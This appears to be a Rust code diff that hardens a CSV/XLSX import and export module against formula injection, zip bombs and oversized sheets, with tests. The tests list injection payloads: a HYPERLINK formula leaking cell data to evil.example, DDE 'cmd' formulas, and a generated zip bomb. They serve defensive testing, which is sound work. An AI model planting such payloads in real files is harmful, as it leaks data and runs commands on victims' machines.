@@ -38,6 +38,31 @@ impl Table {
     }
 }
 
+/// The characters that make a spreadsheet program read a cell as a formula (OWASP "CSV injection").
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell as it may go into a CSV file people open in Excel or LibreOffice: a value that would start a formula
+/// (`=HYPERLINK(...)`, `@SUM(...)`, `+31 ...`) gets a leading apostrophe, which those programs show as text.
+/// Every CSV download goes through this one function (`keten_web::download::csv`).
+#[must_use]
+pub fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_START) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// The reverse of [`neutralise_formula`] for imports, so that an exported file reads back unchanged: the
+/// apostrophe in front of a formula character goes.
+#[must_use]
+pub fn strip_formula_guard(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_START) => rest,
+        _ => cell,
+    }
+}
+
 /// Reads CSV or XLSX (recognised by its zip signature); the error is Dutch.
 pub fn read_table(bytes: &[u8]) -> Result<Table, String> {
     if bytes.starts_with(b"PK\x03\x04") {
@@ -59,8 +84,16 @@ pub fn read_csv(text: &str) -> Result<Table, String> {
         .from_reader(text.as_bytes());
     let mut table = Table::default();
     for (index, record) in reader.records().enumerate() {
+        if index > MAX_ROWS {
+            return Err(format!(
+                "Het bestand heeft meer dan {MAX_ROWS} rijen. Splits het in kleinere bestanden."
+            ));
+        }
         let record = record.map_err(|e| format!("Het bestand is geen leesbare CSV ({e})."))?;
-        let cells: Vec<String> = record.iter().map(|c| c.trim().to_owned()).collect();
+        let cells: Vec<String> = record
+            .iter()
+            .map(|c| strip_formula_guard(c.trim()).to_owned())
+            .collect();
         if index == 0 {
             table.headers = cells;
         } else if cells.iter().any(|c| !c.is_empty()) {
@@ -73,16 +106,59 @@ pub fn read_csv(text: &str) -> Result<Table, String> {
     Ok(table)
 }
 
+/// The most an uploaded workbook may unpack to. A real sheet of a few thousand help points or a year of questions
+/// unpacks to a few megabytes; a zip bomb of 600 KB unpacks to hundreds (issue 18).
+pub const MAX_UNPACKED_BYTES: u64 = 64 * 1024 * 1024;
+/// The most rows a sheet may have.
+pub const MAX_ROWS: usize = 100_000;
+
+/// Refuses a workbook that unpacks to more than [`MAX_UNPACKED_BYTES`], before anything parses it. The sizes in
+/// the zip directory are checked first (cheap); then every entry is inflated and counted, because those sizes can
+/// lie. Inflating stops at the limit, so a bomb costs at most that much work.
+fn check_unpacked_size(bytes: &[u8]) -> Result<(), String> {
+    use std::io::Read;
+    let too_big = || {
+        format!(
+            "Het Excel-bestand is uitgepakt groter dan {} MB. Sla het op zonder lege rijen en opmaak, of splits het in kleinere bestanden.",
+            MAX_UNPACKED_BYTES / 1024 / 1024
+        )
+    };
+    let unreadable =
+        |e: zip::result::ZipError| format!("Het Excel-bestand is niet te lezen ({e}).");
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).map_err(unreadable)?;
+    let declared = (0..archive.len())
+        .filter_map(|i| archive.by_index_raw(i).ok().map(|f| f.size()))
+        .fold(0u64, u64::saturating_add);
+    if declared > MAX_UNPACKED_BYTES {
+        return Err(too_big());
+    }
+    let mut left = MAX_UNPACKED_BYTES;
+    for i in 0..archive.len() {
+        let entry = archive.by_index(i).map_err(unreadable)?;
+        let read = std::io::copy(&mut entry.take(left + 1), &mut std::io::sink())
+            .map_err(|e| format!("Het Excel-bestand is niet te lezen ({e})."))?;
+        left = left.checked_sub(read).ok_or_else(too_big)?;
+    }
+    Ok(())
+}
+
 /// The first sheet of an .xlsx workbook. Excel dates become `YYYY-MM-DD`
 /// (with ` HH:MM` when there is a time), whole numbers lose their `.0`.
+/// A workbook that unpacks to more than [`MAX_UNPACKED_BYTES`] or has more than [`MAX_ROWS`] rows is refused.
 pub fn read_xlsx(bytes: &[u8]) -> Result<Table, String> {
     use calamine::{Data, Reader, Xlsx};
+    check_unpacked_size(bytes)?;
     let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes))
         .map_err(|e| format!("Het Excel-bestand is niet te lezen ({e})."))?;
     let range = book
         .worksheet_range_at(0)
         .ok_or_else(|| "Het Excel-bestand heeft geen werkblad.".to_owned())?
         .map_err(|e| format!("Het eerste werkblad is niet te lezen ({e})."))?;
+    if range.height() > MAX_ROWS + 1 {
+        return Err(format!(
+            "Het werkblad heeft meer dan {MAX_ROWS} rijen. Splits het in kleinere bestanden."
+        ));
+    }
     let first_row = range.start().map_or(0, |(r, _)| r as usize);
     let mut table = Table::default();
     for (i, row) in range.rows().enumerate() {
@@ -142,6 +218,59 @@ mod tests {
         assert_eq!(t.rows.len(), 2);
         assert_eq!(t.rows[0].1, vec!["2026-03-02", "DigiD"]);
         assert!(read_table(b"").is_err());
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_and_read_back() {
+        for bad in [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Klik hier\")",
+            "=cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+31 10 123 45 67",
+            "-2+3",
+            "\tx",
+            "\rx",
+        ] {
+            let safe = neutralise_formula(bad);
+            assert_eq!(safe, format!("'{bad}"));
+            assert_eq!(strip_formula_guard(&safe), bad);
+        }
+        assert_eq!(neutralise_formula("Bibliotheek"), "Bibliotheek");
+        assert_eq!(neutralise_formula(""), "");
+        assert_eq!(strip_formula_guard("'t Hofje"), "'t Hofje");
+    }
+
+    #[test]
+    fn a_zip_bomb_is_refused_before_it_is_parsed() {
+        use std::io::Write;
+        // A sheet of 70 MB of the same row compresses to well under a megabyte.
+        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        let options = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated)
+            .compression_level(Some(9));
+        zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
+        let row =
+            "<row><c t=\"inlineStr\"><is><t>aaaaaaaaaaaaaaaaaaaa</t></is></c></row>".repeat(1000);
+        for _ in 0..(70 * 1024 * 1024 / row.len()) {
+            zip.write_all(row.as_bytes()).unwrap();
+        }
+        let bytes = zip.finish().unwrap().into_inner();
+        assert!(bytes.len() < 1024 * 1024, "{}", bytes.len());
+        let error = read_table(&bytes).unwrap_err();
+        assert!(error.contains("uitgepakt groter dan 64 MB"), "{error}");
+    }
+
+    #[test]
+    fn too_many_rows_are_refused() {
+        let text = format!("a\n{}", "1\n".repeat(MAX_ROWS + 1));
+        assert!(read_csv(&text).unwrap_err().contains("meer dan"));
+        assert_eq!(
+            read_csv(&format!("a\n{}", "1\n".repeat(MAX_ROWS)))
+                .unwrap()
+                .rows
+                .len(),
+            MAX_ROWS
+        );
     }
 
     #[test]
